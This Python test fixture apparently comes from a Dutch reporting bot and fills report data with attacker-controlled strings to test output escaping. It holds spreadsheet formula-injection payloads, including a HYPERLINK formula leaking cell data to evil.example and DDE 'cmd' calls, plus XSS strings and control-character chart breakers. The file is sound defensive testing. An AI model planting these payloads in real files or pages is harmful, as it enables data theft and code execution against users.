"""Text an attacker controls wherever wieweet writes it out: question texts (topic labels), theme labels, practice
titles and cities, expert names and organisations (an expert edits these in their own profile modal)."""

from __future__ import annotations

from datetime import UTC, datetime

from bot.needs.model import COVERED, NOT_COVERED, WEAK, TopicView
from bot.needs.report import Helper, MonthFigures, MonthShare, PracticeUse, ReportData

NOW = datetime(2026, 11, 25, 10, 0, tzinfo=UTC)

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width "="
)
MARKUP = (
    '<script>alert("x")</script>',
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<!channel> <@U0123ABCD> <http://evil.example|Klik hier> *vet* _schuin_ ~weg~ `code`",
)
CHART_BREAKERS = (
    "$\\frac{1}{0}$ kost $5 of $10",  # mathtext
    "$\\undefinedcommand{x}$",
    "a $ b \\ c ^ _ { } %",
    "\u202eevil\u202c \u200b\u200d \U0001f600\U0001f469\u200d\U0001f469\u200d\U0001f467 שלום مرحبا",
    "bell\x07 escape\x1b[31m rood\x1b[0m nul\x00 del\x7f csi\x9b",
    "x" * 5000,
    "",
)
EVERYTHING = FORMULAS + MARKUP + CHART_BREAKERS


def topic(i: int, label: str) -> TopicView:
    return TopicView(
        id=i,
        label=label,
        themes=("wonen",),
        questions=3 + i % 4,
        gaps=i % 2,
        organisations=2,
        cities=1,
        answered=1,
        median_answer_hours=4.0,
        coverage=(COVERED, WEAK, NOT_COVERED)[i % 3],
        trend="new",
        previous=(1, 0),
        quoted=(label,),
        not_quoted=0,
    )


def report_data(texts: tuple[str, ...] = EVERYTHING, *, period: str = "2026-Q4") -> ReportData:
    """A report in which every text a person controls is one of ``texts``."""
    themes = tuple((f"t{i}", text) for i, text in enumerate(texts))
    months = ("2026-10", "2026-11", "2026-12")
    figures = tuple(
        MonthFigures(month, key, 2 + i, 1, 3.5, 1 + i, 1, 2.0) for i, (key, _) in enumerate(themes) for month in months
    )
    practices = tuple(PracticeUse(i, text, text, NOW, i + 1) for i, text in enumerate(texts))
    return ReportData(
        period=period,
        start=NOW,
        end=NOW,
        generated_at=NOW,
        months=months,
        themes=themes,
        figures=figures,
        asked=10,
        answered=5,
        asked_answered=4,
        month_shares=tuple(MonthShare(month, 4, 2) for month in months),
        median_hours=3.0,
        gaps=1,
        topics=tuple(topic(i, text) for i, text in enumerate(texts)),
        experts=tuple(Helper(text or "n", text, i + 1) for i, text in enumerate(texts)),
        organisations=tuple((text or "o", i + 1) for i, text in enumerate(texts)),
        practices_added=practices,
        practices_used=practices,
    )
